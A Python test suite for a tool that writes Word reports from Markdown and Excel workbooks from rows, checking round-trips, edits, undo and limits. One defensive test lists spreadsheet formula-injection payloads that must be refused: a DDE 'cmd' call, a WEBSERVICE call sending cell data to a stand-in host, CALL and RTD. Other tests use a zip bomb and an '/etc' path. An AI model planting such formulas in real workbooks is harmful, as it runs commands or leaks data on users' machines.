"""Word and Excel written from Markdown and rows, read back equal, changed without loss, undone like any write."""

from __future__ import annotations

import copy
import io
import zipfile
from typing import Any

import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.chart import BarChart

from homeport_files.office.reports import write_report
from homeport_files.office.workbooks import Sheet, write_workbook
from homeport_shared.documents import extract_bytes
from homeport_shared.errors import HomeportError

pytestmark = pytest.mark.anyio
REPORT = """# Rent in 2026

The rent **rises** in *May*.

## Where it comes from

- heating
- water

| Month | Rent |
|---|---|
| April | 900 |
| May | 950 |

> Agreed by both.
"""


def book(files: Any, name: str) -> Any:
    return openpyxl.load_workbook(files.folder / name)


async def test_a_report_is_written_from_markdown_and_read_back(files: Any) -> None:
    change = await files("write_document", path="docs/rent.docx", markdown=REPORT)
    assert change["kind"] == "created"
    text = (await files("read", path="docs/rent.docx"))["text"]
    assert text.split("\n\n") == [
        "# Rent in 2026",
        "The rent rises in May.",
        "## Where it comes from",
        "- heating\n- water",
        "Month | Rent\nApril | 900\nMay | 950",
        "Agreed by both.",
    ]
    document = docx.Document(files.folder / "rent.docx")
    assert document.core_properties.title == "Rent in 2026"
    assert [run.text for run in document.paragraphs[1].runs if run.bold] == ["rises"]
    assert document.paragraphs[-1].style.name == "Quote"


def report(markdown: str, old: bytes | None = None, **options: dict[str, str]) -> bytes:
    return write_report(old, markdown, options.get("styles", {}), options.get("replace", {}), "a.docx")


def test_styles_of_the_document_can_be_chosen() -> None:
    styles = {"table": "light grid accent 1", "quote": "Intense Quote", "code": "Body Text"}
    document = docx.Document(io.BytesIO(report(f"{REPORT}\n```\nx = 1\n```\n", styles=styles)))
    assert document.tables[0].style.name == "Light Grid Accent 1"
    assert [each.style.name for each in document.paragraphs[-2:]] == ["Intense Quote", "Body Text"]
    with pytest.raises(HomeportError, match="Light Grid"):
        report("x", styles={"table": "Nice"})


def test_every_kind_of_piece_comes_out_as_word_has_it() -> None:
    markdown = (
        "1. first\n2. second\n   and more\n    - inner\n\n`code` in *it*\n\n"
        "```python\nif x:\n    y\n```\n\n| a | b\\|c |\n|---|---|\n| **d** | |\n"
    )
    document = docx.Document(io.BytesIO(report(markdown)))
    styles = [(each.text, each.style.name) for each in document.paragraphs if each.text]
    assert styles == [
        ("first", "List Number"),
        ("second and more", "List Number"),
        ("inner", "List Bullet 3"),
        ("code in it", "Normal"),
        ("if x:", "Normal"),
        ("    y", "Normal"),
    ]
    looks = [(run.text, run.font.name, run.italic) for run in document.paragraphs[3].runs]
    assert looks == [("code", "Courier New", None), (" in ", None, None), ("it", None, True)]
    assert [[cell.text for cell in row.cells] for row in document.tables[0].rows] == [["a", "b|c"], ["d", ""]]


def test_a_report_is_changed_where_asked_and_extended() -> None:
    old = report(REPORT)
    new = report("## Next", old, replace={"rises": "falls", "950": "850"})
    text = extract_bytes(new, "a.docx").text
    assert "The rent falls in May." in text and "May | 850" in text and text.endswith("## Next")
    document = docx.Document(io.BytesIO(new))
    assert [run.text for run in document.paragraphs[1].runs if run.bold] == ["falls"], "its look stays"
    with pytest.raises(HomeportError, match="no paragraph with 'no such'"):
        report("", old, replace={"no such": "x"})


def test_a_text_across_the_border_of_a_link_is_not_replaced() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("See ")
    link = OxmlElement("w:hyperlink")
    link.append(copy.deepcopy(document.add_paragraph().add_run("the page")._r))
    paragraph._p.append(link)
    out = io.BytesIO()
    document.save(out)
    with pytest.raises(HomeportError, match="touches a link"):
        report("", out.getvalue(), replace={"See the": "x"})


async def test_what_was_written_can_be_taken_back(files: Any) -> None:
    await files("write_document", path="docs/a.docx", markdown="one")
    before = (files.folder / "a.docx").read_bytes()
    assert (await files.fails("write_document", path="docs/a.docx", markdown="two"))[0] == "conflict"
    await files("write_document", path="docs/a.docx", markdown="two", mode="edit")
    await files("restore", path="docs/a.docx")
    assert (files.folder / "a.docx").read_bytes() == before


async def test_a_change_to_something_else_than_was_read_is_a_conflict(files: Any) -> None:
    await files("write_document", path="docs/a.docx", markdown="one")
    arguments = {"path": "docs/a.docx", "markdown": "two", "mode": "edit", "if_sha256": "0" * 64}
    assert (await files.fails("write_document", **arguments))[0] == "conflict"


def workbook(*sheets: dict[str, Any], old: bytes | None = None) -> bytes:
    return write_workbook(old, [Sheet.model_validate(sheet) for sheet in sheets], "a.xlsx")


def test_a_workbook_has_values_formulas_formats_and_charts() -> None:
    rows = [
        ["Month", "Rent", "Paid on"],
        ["April", 900.5, "2026-04-01"],
        ["May", 950, "2026-05-01 10:30"],
        ["Sum", "=SUM(B2:B3)", "2026-02-31"],
    ]
    sheet = {"name": "Rent", "rows": rows, "formats": {"B2:B4": "0.00"}}
    sheet["charts"] = [{"kind": kind, "range": "A1:B3", "title": kind} for kind in ("bar", "line", "pie", "scatter")]
    page = openpyxl.load_workbook(io.BytesIO(workbook(sheet)))["Rent"]
    assert (page["B2"].value, page["B4"].value, page["B4"].number_format) == (900.5, "=SUM(B2:B3)", "0.00")
    days = [str(page[f"C{row}"].value) for row in (2, 3, 4)]
    assert days == ["2026-04-01 00:00:00", "2026-05-01 10:30:00", "2026-02-31"]
    assert (page["A1"].font.bold, page.freeze_panes, len(page._charts)) == (True, "A2", 4)


async def test_a_workbook_that_was_written_is_previewed_as_a_table(files: Any) -> None:
    await files("write_document", path="docs/a.xlsx", sheets=[{"name": "A", "rows": [["Day"], ["2026-04-01"]]}])
    preview = await files("preview", path="docs/a.xlsx")
    assert (preview["columns"], preview["rows"]) == (["Day"], [["2026-04-01"]])


async def test_a_workbook_is_extended_and_keeps_what_it_had(files: Any) -> None:
    sheet = {"name": "Rent", "rows": [["Month", "Rent"], ["April", 900]], "charts": [{"kind": "bar", "range": "A1:B2"}]}
    await files("write_document", path="docs/a.xlsx", sheets=[sheet])
    more = [
        {"name": "Rent", "rows": [["May", 950]]},
        {"name": "Rent", "rows": [["Total"]], "start": "D9"},
        {"name": "Notes", "rows": [["'=no formula"]]},
    ]
    await files("write_document", path="docs/a.xlsx", mode="edit", sheets=more)
    changed = book(files, "a.xlsx")
    assert [cell.value for cell in changed["Rent"][3]][:2] == ["May", 950]
    assert changed["Rent"]["D9"].value == "Total"
    assert (changed["Notes"]["A1"].value, changed["Notes"]["A1"].data_type) == ("=no formula", "s")
    assert len(changed["Rent"]._charts) == 1


@pytest.mark.parametrize(
    "formula", ["=cmd|'/c calc'!A0", '=WEBSERVICE("http://x/"&A1)', "=CALL(1)", '=SUM(1)+rtd("a","b","c")']
)
def test_a_formula_that_reaches_out_is_refused(formula: str) -> None:
    with pytest.raises(HomeportError, match="would reach out") as refused:
        workbook({"name": "A", "rows": [[formula]]})
    assert refused.value.code == "denied"


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        ({"path": "docs/a.odt", "markdown": "x"}, "unsupported"),
        ({"path": "docs/a.docx"}, "invalid"),
        ({"path": "docs/a.docx", "sheets": [{"name": "A"}]}, "invalid"),
        ({"path": "docs/a.xlsx", "markdown": "x"}, "invalid"),
        ({"path": "docs/a.xlsx", "sheets": [{"name": "a/b", "rows": [["x"]]}]}, "invalid"),
        ({"path": "docs/none.docx", "markdown": "x", "mode": "edit"}, "not_found"),
        ({"path": "/etc/a.docx", "markdown": "x"}, "denied"),
    ],
)
async def test_what_cannot_be_written_is_said(files: Any, arguments: dict[str, Any], code: str) -> None:
    assert (await files.fails("write_document", **arguments))[0] == code


@pytest.mark.parametrize(
    ("sheet", "code", "says"),
    [
        ({"rows": [["bell \x07"]]}, "invalid", "A1 has a character"),
        ({"rows": [["x" * 40_000]]}, "too_large", "A1 is longer"),
        ({"rows": [["x"]], "start": "here"}, "invalid", "'here' is no cell"),
        ({"rows": [["x"]], "formats": {"?": "0"}}, "invalid", "'?' is no range"),
        ({"rows": [["x"]], "formats": {"A1:XFD1048576": "0"}}, "invalid", "is no range"),
        ({"charts": [{"kind": "pie", "range": "A1"}]}, "invalid", "no names and values"),
        ({"charts": [{"kind": "pie", "range": "all"}]}, "invalid", "'all' holds no names"),
        ({"name": "a/b", "rows": [["x"]]}, "invalid", "cannot name a new sheet"),
    ],
)
def test_what_a_workbook_cannot_hold_is_said(sheet: dict[str, Any], code: str, says: str) -> None:
    with pytest.raises(HomeportError) as refused:
        workbook({"name": "A", **sheet})
    assert (refused.value.code, says in str(refused.value)) == (code, True), str(refused.value)


def test_a_report_with_a_character_that_word_cannot_hold_is_refused() -> None:
    with pytest.raises(HomeportError, match="cannot hold the character"):
        report("bell \x07")


def test_a_workbook_needs_a_sheet_and_not_too_many_cells() -> None:
    with pytest.raises(HomeportError, match="needs a sheet"):
        workbook()
    with pytest.raises(HomeportError, match="Write them in parts"):
        workbook({"name": "A", "rows": [[None] * 1_000] * 501})


def test_a_workbook_with_parts_that_would_be_lost_is_not_changed() -> None:
    out = io.BytesIO(workbook({"name": "A", "rows": [[1]]}))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("xl/slicers/slicer1.xml", "<slicers/>")
    with pytest.raises(HomeportError, match="slicer") as refused:
        workbook({"name": "A", "rows": [[2]]}, old=out.getvalue())
    assert refused.value.code == "unsupported"


def test_a_sheet_that_is_a_chart_has_no_cells_to_fill() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook({"name": "A", "rows": [[1]]})))
    book.create_chartsheet("Chart").add_chart(BarChart())
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(HomeportError, match="is a chart, not cells"):
        workbook({"name": "Chart", "rows": [[2]]}, old=out.getvalue())


@pytest.mark.parametrize(("name", "part"), [("a.docx", "word/document.xml"), ("a.xlsx", "xl/workbook.xml")])
async def test_a_document_that_does_not_open_is_not_changed(files: Any, name: str, part: str) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(part, "<nothing")
    files.put(name, out.getvalue())
    content: dict[str, Any] = {"markdown": "x"} if name == "a.docx" else {"sheets": [{"name": "A", "rows": [[1]]}]}
    code, text = await files.fails("write_document", path=f"docs/{name}", mode="edit", **content)
    assert (code, "does not open" in text) == ("damaged", True), text


@pytest.mark.slow
async def test_a_document_that_explodes_is_not_opened(files: Any) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"\0" * 400_000_000)
    files.put("bomb.docx", out.getvalue())
    assert (await files.fails("write_document", path="docs/bomb.docx", markdown="x", mode="edit"))[0] == "too_large"


WORDS = st.text(st.characters(categories=["L", "Nd"]), min_size=1, max_size=12)


@pytest.mark.slow
@given(st.lists(st.tuples(st.sampled_from(["# ", "## ", "", "- "]), WORDS), min_size=1, max_size=12))
def test_every_report_is_read_back_equal(pieces: list[tuple[str, str]]) -> None:
    markdown = "\n\n".join(mark + words for mark, words in pieces)
    document = extract_bytes(write_report(None, markdown, {}, {}, "a.docx"), "a.docx")
    assert [line for line in document.text.split("\n") if line] == [mark + words for mark, words in pieces]


@given(
    st.lists(
        st.lists(st.one_of(st.integers(-(10**9), 10**9), WORDS, st.booleans()), min_size=1, max_size=5),
        min_size=1,
        max_size=8,
    )
)
def test_every_sheet_is_read_back_equal(rows: list[list[Any]]) -> None:
    data = write_workbook(None, [Sheet(name="A", rows=rows)], "a.xlsx")
    page = openpyxl.load_workbook(io.BytesIO(data))["A"]
    assert [[cell.value for cell in row][: len(rows[n])] for n, row in enumerate(page.iter_rows())] == rows
